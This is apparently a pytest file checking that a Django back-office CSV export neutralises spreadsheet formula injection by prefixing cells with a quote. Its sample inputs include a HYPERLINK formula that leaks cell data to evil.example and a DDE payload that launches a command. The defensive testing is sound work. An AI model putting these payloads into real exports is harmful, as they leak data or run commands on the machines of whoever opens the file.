"""CSV exports from the back-office: nothing in them runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User

from api.exports import csv_rows, spreadsheet_safe
from scoring.tests.factories import UserFactory, final_score_requests

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_text_is_prefixed_and_kept_readable(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Recife", "São José", "", "'quoted", 12, -3.5, None])
def test_other_values_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_cell_of_an_export_is_safe():
    rows = [[text, 1, text.upper()] for text in INJECTIONS]
    body = "".join(csv_rows(["a", "b", "c"], rows))
    parsed = list(csv.reader(io.StringIO(body, newline="")))
    assert parsed[0] == ["a", "b", "c"] and len(parsed) == len(INJECTIONS) + 1
    assert not any(cell.startswith(FORMULA_STARTS) for row in parsed[1:] for cell in row)


@pytest.mark.django_db
def test_the_admin_export_neutralises_a_clients_formula_user_name(client, active_version):
    """User names may start with +, - or @ (Django's own rule allows them): they reach the export."""
    clients = [UserFactory.create(username=name) for name in ("+1-555-0100", "-cmd", "@SUM")]
    requests = [final_score_requests(active_version, 1, user=user)[0] for user in clients]
    client.force_login(User.objects.create_superuser("ops", password="x"))
    response = client.post(
        "/admin/scoring/scorerequest/", {"action": "export_csv", "_selected_action": [str(r.pk) for r in requests]}
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    names = {row[rows[0].index("requested_by")] for row in rows[1:]}
    assert names == {"'+1-555-0100", "'-cmd", "'@SUM"}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)
